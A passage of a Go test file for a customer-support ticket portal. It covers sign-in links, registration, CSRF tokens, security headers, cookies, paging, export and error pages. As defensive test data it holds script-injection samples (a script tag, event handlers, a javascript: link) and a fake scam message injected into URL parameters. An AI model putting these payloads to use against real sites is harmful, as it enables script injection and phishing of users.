	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
	link := tp.mailedLink(email)
	require.True(t, strings.HasPrefix(link, "/signin?token="), link)

	for range 2 {
		page := c.get(link)
		require.Equal(t, http.StatusOK, page.StatusCode)
		assert.Contains(t, page.body, `action="/signin"`, "opening the link shows a button, and uses nothing up")
	}
	assert.Equal(t, http.StatusSeeOther, c.get("/tickets").StatusCode, "not signed in yet")
	u, _ := url.Parse(link)
	res = c.post("/signin", url.Values{"csrf": {c.csrf(link)}, "token": {u.Query().Get("token")}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.Equal(t, "/tickets", res.Header.Get("Location"))
	assert.Equal(t, http.StatusOK, c.get("/tickets").StatusCode, "signed in")

	other := tp.client()
	res = other.post("/signin", url.Values{"csrf": {other.csrf(link)}, "token": {u.Query().Get("token")}})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a link works once")
	assert.Contains(t, res.body, "expired or has been used")
	assert.Equal(t, http.StatusSeeOther, other.get("/tickets").StatusCode)

	ctx := context.Background()
	s, err := tp.p.Settings(ctx, tp.demo.tenant())
	require.NoError(t, err)
	s.Access.SignInLinks = false
	_, err = tp.p.SaveSettings(ctx, tp.demo.tenant(), s)
	require.NoError(t, err)
	assert.NotContains(t, c.get("/login").body, `href="/signin-request"`)
	assert.Equal(t, http.StatusNotFound, c.get("/signin-request").StatusCode, "no links when the settings allow none")
	res = c.post("/signin-request", url.Values{"csrf": {c.csrf("/login")}, "email": {email}})
	assert.Equal(t, http.StatusNotFound, res.StatusCode)
}

// covers: A2, S11, S13 — registration with consent
func TestRegistration(t *testing.T) {
	tp := newTestPortal(t)
	ctx := context.Background()
	c := tp.client()
	assert.Equal(t, http.StatusNotFound, c.get("/register").StatusCode, "no registration under access groups")
	assert.NotContains(t, c.get("/login").body, `href="/register"`)

	s, err := tp.p.Settings(ctx, tp.demo.tenant())
	require.NoError(t, err)
	s.Access.Mode, s.Access.Lists = portal.SelfRegistration, nil
	s.Consent.Notice = "Nordlys keeps your name and e-mail to answer you."
	_, err = tp.p.SaveSettings(ctx, tp.demo.tenant(), s)
	require.NoError(t, err)

	login := c.get("/login").body
	assert.Contains(t, login, `href="/register"`, "the login page offers Register here")
	page := c.get("/register")
	require.Equal(t, http.StatusOK, page.StatusCode)
	assert.Contains(t, page.body, "Nordlys keeps your name and e-mail to answer you.", "the consent notice (S13)")

	form := url.Values{"csrf": {c.csrf("/register")}, "email": {"new.customer@example.com"}, "firstName": {"Nina"}, "lastName": {"Nyholm"}}
	res := c.post("/register", form)
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "no registration without consent")
	_, err = tp.p.DeliverMail(context.Background(), tp.demo.tenant())
	require.NoError(t, err)
	_, mailed := tp.mail.Last("new.customer@example.com")
	assert.False(t, mailed)

	form.Set("consent", "yes")
	res = c.post("/register", form)
	require.Equal(t, http.StatusOK, res.StatusCode, res.body)
	assert.Contains(t, res.body, "Check your inbox")
	link := tp.mailedLink("new.customer@example.com")
	assert.True(t, strings.HasPrefix(link, "/registration?token="), link)
	res = c.setPassword(link, "nina-likes-tea-42")
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	res = c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {"new.customer@example.com"}, "password": {"nina-likes-tea-42"}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.Contains(t, c.get("/tickets").body, "Nina Nyholm")
}

// covers: A5 — an agent configured without a password opens nothing, not
// even with the text an unknown agent's password is compared with
func TestAgentWithoutPasswordOpensNothing(t *testing.T) {
	tp := newTestPortal(t)
	tp.srv.Agents["disabled"] = ""
	for _, try := range []struct{ name, password string }{
		{"disabled", ""}, {"disabled", "\x00no such agent"}, {"nobody", "\x00no such agent"},
	} {
		req, _ := http.NewRequest(http.MethodGet, tp.URL+"/internal/preview", nil)
		req.SetBasicAuth(try.name, try.password)
		res := tp.client().do(req)
		assert.Equal(t, http.StatusUnauthorized, res.StatusCode, "%q with %q", try.name, try.password)
	}
	req, _ := http.NewRequest(http.MethodGet, tp.URL+"/internal/preview", nil)
	req.SetBasicAuth("agent", "agent-secret")
	assert.Equal(t, http.StatusOK, tp.client().do(req).StatusCode, "an agent with a password gets in")
}

// covers: A5 — the helpdesk's preview is read only
func TestPreview(t *testing.T) {
	tp := newTestPortal(t)
	agent := tp.client()
	res := agent.get("/internal/preview")
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	assert.Contains(t, res.Header.Get("WWW-Authenticate"), "Basic")

	req, _ := http.NewRequest(http.MethodGet, tp.URL+"/internal/preview", nil)
	req.SetBasicAuth("agent", "wrong")
	res = agent.do(req)
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	assert.Contains(t, res.body, "This page is for helpdesk users")

	req, _ = http.NewRequest(http.MethodGet, tp.URL+"/internal/preview", nil)
	req.SetBasicAuth("agent", "agent-secret")
	res = agent.do(req)
	require.Equal(t, http.StatusOK, res.StatusCode)
	token := csrfPattern.FindStringSubmatch(res.body)[1]
	contact := tp.demo.data.Contacts[0]
	req, _ = http.NewRequest(http.MethodPost, tp.URL+"/internal/preview",
		strings.NewReader(url.Values{"csrf": {token}, "contact": {contact.ID.String()}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.SetBasicAuth("agent", "agent-secret")
	res = agent.do(req)
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)

	list := agent.get("/tickets")
	require.Equal(t, http.StatusOK, list.StatusCode)
	assert.Contains(t, list.body, "Preview as "+contact.Name()+" — read only. Opened by agent.")
	ticket := agent.firstTicket("?status=open")
	detail := agent.get("/tickets/" + ticket).body
	assert.NotContains(t, detail, `action="/tickets/`+ticket+`/reply"`, "a preview offers no reply")
	assert.NotContains(t, detail, `action="/tickets/`+ticket+`/close"`, "nor a close")
	form := agent.get("/new").body
	assert.Contains(t, form, "This is a preview: nothing can be sent from it.")
	assert.Contains(t, form, `type="submit" disabled>`)
	csrf := csrfPattern.FindStringSubmatch(detail)[1]
	assert.Equal(t, http.StatusForbidden, agent.reply(ticket, csrf, "from the preview", nil).StatusCode)
	assert.Equal(t, http.StatusForbidden, agent.post("/tickets/"+ticket+"/close", url.Values{"csrf": {csrf}}).StatusCode)
	res = agent.post("/new", url.Values{"csrf": {csrf}, "subject": {"from the preview"}, "content": {"x"}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode)
	assert.NotContains(t, agent.get("/tickets/"+ticket).body, "from the preview")

	// "End preview" goes back to the directory, to preview another.
	res = agent.post("/logout", url.Values{"csrf": {agent.csrf("/tickets")}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode)
	assert.Equal(t, "/internal/preview", res.Header.Get("Location"))
	assert.Equal(t, http.StatusSeeOther, agent.get("/tickets").StatusCode, "the preview has ended")
}

// covers: P2, P3, S8 — the list's query in its URL
func TestListQueries(t *testing.T) {
	tp, c := newLoggedIn(t)
	org := c.get("/tickets")
	assert.Contains(t, org.body, `class="current">Organization<`)
	mine := c.get("/tickets?view=mine")
	require.Equal(t, http.StatusOK, mine.StatusCode)
	assert.Contains(t, mine.body, `class="current">Owned by me<`)
	assert.NotEqual(t, ticketIDs(org.body), ticketIDs(mine.body))

	closed := c.get("/tickets?status=closed").body
	assert.NotContains(t, closed, `<span class="badge">Open</span>`)
	assert.Contains(t, closed, `<span class="badge badge-closed">Closed</span>`)

	// Every page, forward and back.
	var all []string
	path := "/tickets"
	var pages []string
	for path != "" {
		res := c.get(path)
		require.Equal(t, http.StatusOK, res.StatusCode)
		pages = append(pages, path)
		all = append(all, ticketIDs(res.body)...)
		path = ""
		if m := regexp.MustCompile(`href="([^"]+)" rel="next"`).FindStringSubmatch(res.body); m != nil {
			path = html.UnescapeString(m[1])
		}
	}
	require.Greater(t, len(pages), 1, "the company has more than a page of tickets")
	last := c.get(pages[len(pages)-1]).body
	prev := regexp.MustCompile(`href="([^"]+)" rel="prev"`).FindStringSubmatch(last)
	require.NotNil(t, prev)
	assert.Equal(t, ticketIDs(c.get(pages[len(pages)-2]).body), ticketIDs(c.get(html.UnescapeString(prev[1])).body),
		"Previous shows the page before")
	seen := map[string]bool{}
	for _, id := range all {
		assert.False(t, seen[id], "ticket %s on two pages", id)
		seen[id] = true
	}

	asc := c.get("/tickets?sort=createdAt").body
	desc := c.get("/tickets?sort=createdAt&desc=1").body
	assert.Contains(t, asc, `aria-sort="ascending"`)
	assert.Contains(t, desc, `aria-sort="descending"`)
	assert.NotEqual(t, ticketIDs(asc), ticketIDs(desc))

	// A column filter: the product (an enumeration), and an owner (a reference,
	// chosen by the link of an owner's name in the list).
	all1 := c.get("/tickets?status=closed").body
	res := c.get("/tickets?status=closed&f.product=grinder")
	require.Equal(t, http.StatusOK, res.StatusCode)
	products := regexp.MustCompile(`<td>([^<]*)</td></tr>`).FindAllStringSubmatch(res.body, -1)
	require.NotEmpty(t, products, "some closed tickets are of that product")
	for _, m := range products {
		assert.Equal(t, "Kaffekværn Ø-50", m[1])
	}
	owner := regexp.MustCompile(`<a class="cell-filter" href="(/tickets\?[^"]*f.owner=[^"]+)" title="Show only ([^"]+)">`).FindStringSubmatch(all1)
	require.NotNil(t, owner, "owner names link to their filter")
	byOwner := c.get(html.UnescapeString(owner[1])).body
	assert.Contains(t, byOwner, `<span class="chip">`+owner[2], "the filter shows whose tickets these are")
	names := regexp.MustCompile(`title="Show only ([^"]+)">`).FindAllStringSubmatch(byOwner, -1)
	require.NotEmpty(t, names)
	for _, n := range names {
		if n[1] != owner[2] {
			assert.Contains(t, tp.demo.logins[0].Name+"|"+strings.Join(requesters(tp), "|"), n[1], "only the owner's tickets, and their requesters")
		}
	}

	res = c.get("/tickets?f.createdAt.from=not-a-date")
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a bad filter value")
	assert.Contains(t, res.body, `<li>Created: `, "the problem names the column")
	assert.Contains(t, res.body, `name="f.createdAt.from" value="not-a-date"`, "the form stays, to mend it")
	res = c.get("/tickets?view=organisation-of-others")
	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
	// A link's text is never said back in the page's error box (A8): it
	// could be a message of its maker's, shown as the portal's.
	scam := "Your account is suspended. Call +45 12 34 56 78"
	alert := regexp.MustCompile(`(?s)<div class="alert" role="alert">.*?</div>`)
	for _, q := range []string{"view=", "sort=", "status=", "f.createdAt.from=", "f.product=", "c="} {
		res = c.get("/tickets?" + q + url.QueryEscape(scam))
		assert.Equal(t, http.StatusBadRequest, res.StatusCode, q)
		box := alert.FindString(res.body)
		assert.NotEmpty(t, box, q)
		assert.NotContains(t, box, "suspended", q)
	}
	res = c.get("/tickets?c=forged-cursor")
	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
	assert.Contains(t, res.body, "The link of this page is no longer valid")
	for _, bad := range []string{"?n=0", "?n=x", "?h=" + strings.Repeat("~.", maxHistory) + "~"} {
		assert.Equal(t, http.StatusBadRequest, c.get("/tickets"+bad).StatusCode, bad)
	}
	res = c.get("/tickets?q=" + url.QueryEscape(strings.Repeat("x", 600)))
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a search over the limit")
}

// covers: P7 — the CSV is every row of the view
func TestExportIsTheWholeView(t *testing.T) {
	_, c := newLoggedIn(t)
	var want [][]string
	path := "/tickets?status=open&sort=subject"
	for path != "" {
		body := c.get(path).body
		for _, m := range regexp.MustCompile(`<a class="row-link" href="/tickets/[^"]+">([^<]*)</a>`).FindAllStringSubmatch(body, -1) {
			want = append(want, []string{html.UnescapeString(m[1])})
		}
		path = ""
		if m := regexp.MustCompile(`href="([^"]+)" rel="next"`).FindStringSubmatch(body); m != nil {
			path = html.UnescapeString(m[1])
		}
	}
	res := c.get("/tickets/export.csv?status=open&sort=subject")
	require.Equal(t, http.StatusOK, res.StatusCode)
	assert.Equal(t, "text/csv; charset=utf-8", res.Header.Get("Content-Type"))
	assert.Contains(t, res.Header.Get("Content-Disposition"), "Tickets ")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.body, "\ufeff"))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, []string{"No.", "Subject", "Requested by", "Created", "Owner", "Last activity", "Status", "Product"}, rows[0])
	require.Len(t, rows[1:], len(want))
	for i, r := range rows[1:] {
		assert.Equal(t, want[i][0], r[0], "row %d: the number the row links with (P10)", i)
		assert.Regexp(t, `^#[1-9][0-9]*$`, r[0])
		assert.Equal(t, "Open", r[6])
	}
	assert.Equal(t, http.StatusBadRequest, c.get("/tickets/export.csv?f.createdAt.to=yesterday").StatusCode)
}

// covers: P5, P6, P8 — reply, close, submit through the forms
func TestActions(t *testing.T) {
	tp, c := newLoggedIn(t)
	ctx := context.Background()
	ticket := c.ownOpenTicket()
	res := c.reply(ticket, c.csrf("/tickets/"+ticket), "Thank you!\n\n- it works\n- *really*", map[string][]byte{"photo.png": pngBytes})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.Contains(t, res.Header.Get("Location"), "?ok=replied#m-")
	detail := c.get(res.Header.Get("Location")).body
	assert.Contains(t, detail, "Your reply has been sent.")
	assert.Contains(t, detail, "<ul><li>it works</li><li><em>really</em></li></ul>")
	assert.Contains(t, detail, ">photo.png</a>")
	// The reply form's key (X8): sent twice, one reply; the key again with
	// other text, the form back with the text and a new key.
	key := regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(detail)[1]
	resend := url.Values{"csrf": {c.csrf("/tickets/" + ticket)}, "key": {key}, "body": {"Sent twice?"}}
	r1 := c.post("/tickets/"+ticket+"/reply", resend)
	r2 := c.post("/tickets/"+ticket+"/reply", resend)
	require.Equal(t, http.StatusSeeOther, r1.StatusCode, r1.body)
	assert.Equal(t, r1.Header.Get("Location"), r2.Header.Get("Location"), "a resent reply is the same reply")
	assert.Equal(t, 1, strings.Count(c.get(r1.Header.Get("Location")).body, "Sent twice?"))
	resend.Set("body", "Something else")
	r3 := c.post("/tickets/"+ticket+"/reply", resend)
	assert.Equal(t, http.StatusConflict, r3.StatusCode)
	assert.Contains(t, r3.body, "Something else", "what was typed is kept")
	assert.NotContains(t, r3.body, `value="`+key+`"`, "under a new key")

	res = c.post("/tickets/"+ticket+"/close", url.Values{"csrf": {c.csrf("/tickets/" + ticket)}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	detail = c.get(res.Header.Get("Location")).body
	assert.Contains(t, detail, "Closed. Thank you for letting us know.")
	assert.Contains(t, detail, `<span class="badge badge-closed">Closed</span>`)
	assert.NotContains(t, detail, `action="/tickets/`+ticket+`/reply"`, "no replies to closed tickets (S10)")
	assert.Contains(t, detail, "This is closed and takes no more replies.")
	res = c.post("/tickets/"+ticket+"/close", url.Values{"csrf": {c.csrf("/tickets/" + ticket)}})
	assert.Contains(t, res.Header.Get("Location"), "ok=already", "closing twice says so")
	// P13: a ticket closed within the window reopens, to an open stage.
	assert.Contains(t, detail, `action="/tickets/`+ticket+`/reopen"`)
	res = c.post("/tickets/"+ticket+"/reopen", url.Values{"csrf": {c.csrf("/tickets/" + ticket)}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	detail = c.get(res.Header.Get("Location")).body
	assert.Contains(t, detail, "Reopened. We will look at it again.")
	assert.Contains(t, detail, `<span class="badge">Open</span>`)
	assert.NotContains(t, detail, `action="/tickets/`+ticket+`/reopen"`, "open: nothing to reopen")
	assert.Contains(t, detail, `action="/tickets/`+ticket+`/reply"`)
	res = c.post("/tickets/"+ticket+"/reopen", url.Values{"csrf": {c.csrf("/tickets/" + ticket)}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode, "reopening an open ticket is refused")

	form := c.get("/new").body
	assert.Contains(t, form, "<h1>Submit a support ticket</h1>")
	key = regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(form)[1]
	values := url.Values{"csrf": {c.csrf("/new")}, "key": {key}, "subject": {"Kaffemaskinen lækker"}, "content": {"Der er vand på gulvet."}}
	res = c.post("/new", url.Values{"csrf": values["csrf"], "key": {key}, "content": values["content"]})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "the subject is required")
	assert.Contains(t, res.body, "Der er vand på gulvet.", "what was typed is kept")
	first := c.post("/new", values)
	require.Equal(t, http.StatusSeeOther, first.StatusCode, first.body)
	again := c.post("/new", values)
	assert.Equal(t, first.Header.Get("Location"), again.Header.Get("Location"), "a resent form is the same ticket")
	// Back, changed, sent again with the restored key (X8): not the first
	// ticket; the form comes back with what was typed and a new key.
	changed := url.Values{"csrf": values["csrf"], "key": {key}, "subject": {"Printeren er død"}, "content": {"Intet lys."}}
	res = c.post("/new", changed)
	assert.Equal(t, http.StatusConflict, res.StatusCode, res.body)
	assert.Contains(t, res.body, "already sent with other values")
	assert.Contains(t, res.body, "Printeren er død", "what was typed is kept")
	assert.Contains(t, res.body, "Intet lys.")
	newKey := regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(res.body)[1]
	assert.NotEqual(t, key, newKey)
	changed.Set("key", newKey)
	second := c.post("/new", changed)
	require.Equal(t, http.StatusSeeOther, second.StatusCode, second.body)
	assert.NotEqual(t, first.Header.Get("Location"), second.Header.Get("Location"), "a ticket of its own")
	assert.Contains(t, c.get(first.Header.Get("Location")).body, "Kaffemaskinen lækker")
	assert.Contains(t, c.get("/tickets").body, "Kaffemaskinen lækker", "the new ticket is in the list at once")

	events, err := tp.p.Events(ctx, tp.demo.tenant(), 0, 100)
	require.NoError(t, err)
	var kinds []portal.EventKind
	for _, e := range events {
		kinds = append(kinds, e.Kind)
	}
	assert.Equal(t, []portal.EventKind{portal.EventReply, portal.EventReply, portal.EventClose, portal.EventReopen, portal.EventSubmit, portal.EventSubmit}, kinds,
		"the helpdesk receives each action once")
}

// pngBytes is a 1×1 PNG.
var pngBytes = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89" +
	"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")

// covers: S2, S7 — language and theme from the settings
func TestLanguageAndTheme(t *testing.T) {
	tp := newTestPortal(t)
	ctx := context.Background()
	c := tp.client()
	css := c.get("/theme.css")
	assert.Equal(t, "text/css; charset=utf-8", css.Header.Get("Content-Type"))
	assert.Contains(t, css.body, "--primary: #3b5bdb;")
	assert.Contains(t, css.body, "--radius: 10px;")

	s, err := tp.p.Settings(ctx, tp.demo.tenant())
	require.NoError(t, err)
	s.Language, s.Theme.PrimaryColor, s.Theme.LogoURL = "da-DK", "#c2410c", "https://cdn.nordlys.example/logo.svg"
	_, err = tp.p.SaveSettings(ctx, tp.demo.tenant(), s)
	require.NoError(t, err)
	res := c.get("/login")
	login := res.body
	assert.Contains(t, login, `<img src="https://cdn.nordlys.example/logo.svg"`, "the theme's logo (S7)")
	assert.Contains(t, res.Header.Get("Content-Security-Policy"), "img-src 'self' https://cdn.nordlys.example;",
		"images from the site and the logo's origin only")
	assert.Contains(t, login, `<html lang="da-DK">`)
	assert.Contains(t, login, "Glemt din adgangskode?")
	assert.Contains(t, c.get("/theme.css").body, "--primary: #c2410c;")
	c.logIn(tp.login(0))
	list := c.get("/tickets").body
	assert.Contains(t, list, ">Log ud<")
	assert.Contains(t, list, "Hent CSV")
	res = c.get("/tickets/export.csv")
	assert.Contains(t, strings.SplitN(res.body, "\n", 2)[0], ";", "Danish spreadsheets get semicolons")
}

// covers: every page — the security headers
func TestSecurityHeaders(t *testing.T) {
	tp := newTestPortal(t)
	c := tp.client()
	for _, path := range []string{"/login", "/reset-request", "/static/style.css", "/nowhere"} {
		res := c.get(path)
		csp := res.Header.Get("Content-Security-Policy")
		assert.Contains(t, csp, "script-src 'self'", path)
		assert.NotContains(t, csp, "unsafe-inline", path)
		assert.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"), path)
		assert.Equal(t, "DENY", res.Header.Get("X-Frame-Options"), path)
	}
	csrf := setCookie(tp.client().get("/login").Response, csrfCookie)
	require.NotNil(t, csrf)
	assert.True(t, csrf.HttpOnly)
	assert.Equal(t, http.SameSiteLaxMode, csrf.SameSite)

	res := c.post("/login", url.Values{"csrf": {c.csrf("/login")}, "email": {tp.login(0)}, "password": {demoPassword}})
	sess := setCookie(res.Response, sessionCookie)
	require.NotNil(t, sess)
	assert.True(t, sess.HttpOnly)
	assert.Equal(t, http.SameSiteLaxMode, sess.SameSite)
	assert.False(t, sess.Secure, "plain HTTP here; over TLS the cookie is Secure")
	assert.GreaterOrEqual(t, len(sess.Value), 43, "at least 256 bits")
}

// setCookie returns the cookie of that name a response sets, or nil.
func setCookie(res *http.Response, name string) *http.Cookie {
	for _, c := range res.Cookies() {
		if c.Name == name {
			return c
		}
	}
	return nil
}

// covers: A6 — cookies are Secure over TLS, and with -secure behind a proxy
func TestSecureCookies(t *testing.T) {
	tp := newTestPortal(t)
	login := func(srv *server, target string) *http.Response {
		w := httptest.NewRecorder()
		srv.ServeHTTP(w, httptest.NewRequest(http.MethodGet, target, nil))
		csrf := setCookie(w.Result(), srv.cookieName(httptest.NewRequest(http.MethodGet, target, nil), csrfCookie))
		require.NotNil(t, csrf)
		form := url.Values{"csrf": {srv.csrfMAC(csrf.Value, "")}, "email": {tp.login(0)}, "password": {demoPassword}}
		req := httptest.NewRequest(http.MethodPost, target, strings.NewReader(form.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(csrf)
		w = httptest.NewRecorder()
		srv.ServeHTTP(w, req)
		require.Equal(t, http.StatusSeeOther, w.Code, w.Body.String())
		return w.Result()
	}
	res := login(tp.srv, "https://portal.example/login")
	for _, name := range []string{sessionCookie, csrfCookie} {
		c := setCookie(res, "__Host-"+name)
		require.NotNil(t, c, "%s over TLS is __Host-%[1]s: Secure, path /, no domain", name)
		assert.True(t, c.Secure, "%s over TLS", name)
		assert.Equal(t, "/", c.Path)
		assert.Empty(t, c.Domain)
		assert.Nil(t, setCookie(res, name), "no cookie without the prefix")
	}
	assert.Contains(t, res.Header.Get("Strict-Transport-Security"), "max-age=")

	cfg := tp.srv.config
	cfg.Secure = true
	behindProxy, err := newServer(cfg)
	require.NoError(t, err)
	res = login(behindProxy, "http://portal.example/login")
	assert.True(t, setCookie(res, "__Host-"+sessionCookie).Secure, "-secure marks cookies Secure on plain HTTP")
}

// failingStore is the demo's store with its ticket list broken, as a lost
// database connection would break it.
type failingStore struct{ fullStore }

func (failingStore) QueryTickets(context.Context, portal.TicketQuery, *portal.TicketPage) error {
	return errors.New(`sqlite: disk I/O error (5386) reading "/var/lib/portal/portal.db" at goroutine 7`)
}

// Error pages say nothing of the cause; the log has it.
func TestInternalErrorsAreGeneric(t *testing.T) {
	tp, c := newLoggedIn(t)
	cfg := tp.srv.config
	var err error
	cfg.Portal, err = portal.New(failingStore{tp.st.(fullStore)}, portal.Options{Now: tp.clock.Now})
	require.NoError(t, err)
	broken, err := newServer(cfg)
	require.NoError(t, err)
	req := httptest.NewRequest(http.MethodGet, "/tickets", nil)
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: c.cookie(sessionCookie)})
	w := httptest.NewRecorder()
	broken.ServeHTTP(w, req)
	assert.Equal(t, http.StatusInternalServerError, w.Code)
	assert.Contains(t, w.Body.String(), "An unexpected error occurred on our side.")
	for _, leak := range []string{"sqlite", "disk", "/var/lib", "goroutine", "5386"} {
		assert.NotContains(t, w.Body.String(), leak)
	}
	assert.Contains(t, tp.logs.String(), "disk I/O error", "the cause is in the server's log")

	// Without its settings the page is the plain error page, not a stack.
	cfg.PortalID = uuid.New()
	unknown, err := newServer(cfg)
	require.NoError(t, err)
	w = httptest.NewRecorder()
	unknown.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/login", nil))
	assert.Equal(t, http.StatusServiceUnavailable, w.Code)
	assert.Contains(t, w.Body.String(), "<h1>The portal is closed</h1>")
	assert.NotContains(t, w.Body.String(), cfg.PortalID.String())
}

// The check of TestHostileTextIsEscaped finds what it looks for.
func TestActiveContentFindsScript(t *testing.T) {
	assert.Len(t, activeContent(`<p onclick="x()">a</p><a href=" JavaScript:alert(1)">b</a><script>alert(1)</script>`+
		`<script src="/static/portal.js" defer></script>&lt;script&gt; onerror=`), 3)
}

// requesters are the names of the demo's contacts.
func requesters(tp *testPortal) []string {
	var out []string
	for _, c := range tp.demo.data.Contacts {
		out = append(out, c.Name())
	}
	return out
}

// Previous goes back as far as the URL keeps cursors; further back there
// is the first page.
// covers: P2
func TestPagingHistory(t *testing.T) {
	v := &visit{cat: catalogs["en"]}
	st := listState{q: url.Values{paramStatus: {"open"}}, cursor: "c50", page: 51}
	for i := range maxHistory {
		st.history = append(st.history, fmt.Sprintf("c%d", i))
	}
	st.history[0] = ""
	var d listData
	fillList(&d, st, portal.TicketView{Next: "c51"}, v)
	next, err := url.Parse(d.Next)
	require.NoError(t, err)
	q := next.Query()
	assert.Equal(t, "c51", q.Get(paramCursor))
	assert.Equal(t, "52", q.Get(paramPage))
	assert.Equal(t, "open", q.Get(paramStatus))
	h := strings.Split(q.Get(paramHistory), ".")
	assert.Len(t, h, maxHistory, "the oldest cursor is dropped")
	assert.Equal(t, "c1", h[0])
	assert.Equal(t, "c50", h[len(h)-1])
	prev, err := url.Parse(d.Prev)
	require.NoError(t, err)
	assert.Equal(t, "c49", prev.Query().Get(paramCursor))
	assert.Equal(t, "50", prev.Query().Get(paramPage))

	far, err := parseList(next.Query())
	require.NoError(t, err)
	far.history = nil // as far back as the URL went
	d = listData{}
	fillList(&d, far, portal.TicketView{}, v)
	assert.Empty(t, d.Prev)
	assert.Equal(t, "/tickets?status=open", d.First)
	assert.Empty(t, d.Next, "no next page on the last one")
}

// Every form the portal posts is refused without its token.
// covers: A4, A7, P5, P6, P8, P9, P16
func TestEveryFormNeedsItsToken(t *testing.T) {
	tp, c := newLoggedIn(t)
	ticket := c.ownOpenTicket()
	before := c.get("/tickets/" + ticket).body
	for _, path := range []string{"/login", "/logout", "/register", "/reset-request", "/signin-request", "/signin", "/email", "/profile", "/profile/password", "/profile/email", "/profile/sessions/0123456789abcdef0123456789abcdef/end", "/invitation", "/registration", "/reset",
		"/internal/preview", "/tickets/" + ticket + "/reply", "/tickets/" + ticket + "/close", "/tickets/" + ticket + "/rate",
		"/tickets/" + ticket + "/participants", "/new"} {
		for _, token := range []string{"", "forged", c.csrf("/tickets") + "x"} {
			req, err := http.NewRequest(http.MethodPost, tp.URL+path, strings.NewReader(url.Values{"csrf": {token},
				"email": {tp.login(0)}, "password": {demoPassword}, "subject": {"x"}, "content": {"y"}, "body": {"z"}}.Encode()))
			require.NoError(t, err)
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.SetBasicAuth("agent", "agent-secret")
			res := c.do(req)
			assert.Equal(t, http.StatusForbidden, res.StatusCode, "%s with token %q", path, token)
		}
	}
	assert.Equal(t, http.StatusOK, c.get("/tickets").StatusCode, "still logged in: the logout was refused too")
	assert.Equal(t, strip(before), strip(c.get("/tickets/"+ticket).body), "nothing changed")
}

// Both languages have every string.
// covers: S2
func TestCatalogsHaveTheSameKeys(t *testing.T) {
	for _, lang := range portal.Languages() {
		assert.Contains(t, catalogs, lang, "the portal speaks every language of the library's (X3)")
	}
	for lang, c := range catalogs {
		for key := range catalogs["en"] {
			assert.Contains(t, c, key, "%s lacks %s", lang, key)
		}
		for key := range c {
			assert.Contains(t, catalogs["en"], key, "%s has %s, which English lacks", lang, key)
		}
	}
}

// covers: P10 — the number in the list, on the ticket, after a submission,
// and as a search
func TestTicketNumbers(t *testing.T) {
	_, c := newLoggedIn(t)
	list := c.get("/tickets").body
	assert.Contains(t, list, `title="Sort by No.">No.`, "the number column")
	ticket := c.firstTicket("?view=mine")
	m := regexp.MustCompile(`<h1><span class="ref">(#[1-9][0-9]*)</span> `).FindStringSubmatch(c.get("/tickets/" + ticket).body)
	require.NotNil(t, m, "the ticket page names its number")
	ref := m[1]
	found := c.get("/tickets?q=" + url.QueryEscape(ref)).body
	assert.Equal(t, []string{ticket}, ticketIDs(found), "a search for %s finds that ticket alone", ref)
	res := c.get("/tickets?q=" + url.QueryEscape("#1e3"))
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "# and not a number")
	assert.Contains(t, res.body, "not a ticket number")

	form := c.get("/new").body
	key := regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(form)[1]
	sent := c.post("/new", url.Values{"csrf": {c.csrf("/new")}, "key": {key}, "subject": {"Numbered"}, "content": {"C"}})
	require.Equal(t, http.StatusSeeOther, sent.StatusCode, sent.body)
	detail := c.get(sent.Header.Get("Location")).body
	m = regexp.MustCompile(`we have received it as (#[1-9][0-9]*) and`).FindStringSubmatch(detail)
	require.NotNil(t, m, "the thank-you names the new ticket's number")
	assert.Contains(t, detail, `<span class="ref">`+m[1]+`</span> Numbered`)
}

// covers: P14 — rating a closed ticket on its page: the form and its
// states, refusals that keep what was typed, a colleague's view, Danish
func TestSatisfactionRating(t *testing.T) {
	tp, c := newLoggedIn(t)
	ctx := context.Background()
	ticket := c.firstTicket("?view=organization&status=open")
	page := "/tickets/" + ticket
	action := `action="/tickets/` + ticket + `/rate"`
	assert.NotContains(t, c.get(page).body, action, "an open ticket is not rated")
	res := c.post(page+"/rate", url.Values{"csrf": {c.csrf(page)}, "rating": {"4"}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode, "rating an open ticket is refused")

	res = c.post(page+"/close", url.Values{"csrf": {c.csrf(page)}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
